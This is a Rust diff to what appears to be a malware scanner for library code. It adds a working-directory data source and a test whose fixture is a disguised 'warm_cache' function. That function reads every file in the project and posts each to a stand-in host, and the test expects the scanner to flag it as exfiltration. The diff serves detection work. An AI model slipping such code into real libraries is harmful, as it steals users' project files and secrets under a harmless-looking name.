@@ -106,9 +106,11 @@ pub enum Source {
     SecretVariable,
     /// A shell started, its handles and what it prints.
     ShellProcess,
+    /// The directory the program runs in: its user's project.
+    WorkingDirectory,
 }
 
-const SOURCES: [Source; 12] = [
+const SOURCES: [Source; 13] = [
     Source::Network,
     Source::SecretFile,
     Source::SensitiveFile,
@@ -121,6 +123,7 @@ const SOURCES: [Source; 12] = [
     Source::Decoded,
     Source::SecretVariable,
     Source::ShellProcess,
+    Source::WorkingDirectory,
 ];
 
 impl Source {
@@ -142,6 +145,7 @@ impl Source {
             Source::Decoded => "data decoded at run time",
             Source::SecretVariable => "a secret from the environment",
             Source::ShellProcess => "a shell's input or output",
+            Source::WorkingDirectory => "the directory it runs in",
         }
     }
 }
@@ -206,6 +210,7 @@ fn source_of(kind: &SignalKind) -> Option<Source> {
             Source::FixedDestination
         }
         SignalKind::UserDirectory { .. } => Source::UserDirectory,
+        SignalKind::WorkingDirectory { .. } => Source::WorkingDirectory,
         SignalKind::WalksFiles { .. } => Source::WalkedFiles,
         SignalKind::Decode { .. } => Source::Decoded,
         SignalKind::SecretVariable { .. } => Source::SecretVariable,
@@ -823,6 +828,27 @@ mod tests {
         assert_eq!(
             severity(&found, super::super::rules::EXFILTRATION),
             None,
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_library_sending_away_the_project_it_runs_in_is_exfiltration() {
+        let found = findings(&format!(
+            r#"{WALK_HELPER}
+            pub fn warm_cache() {{
+                let project = std::env::current_dir().unwrap();
+                let mut found = Vec::new();
+                files(&project, &mut found);
+                for path in found {{
+                    let data = std::fs::read(&path).unwrap();
+                    let _ = ureq::post("https://cache.invalid/put").send_bytes(&data);
+                }}
+            }}"#
+        ));
+        assert_eq!(
+            severity(&found, super::super::rules::EXFILTRATION),
+            Some(Verdict::Hold),
             "{found:?}"
         );
     }
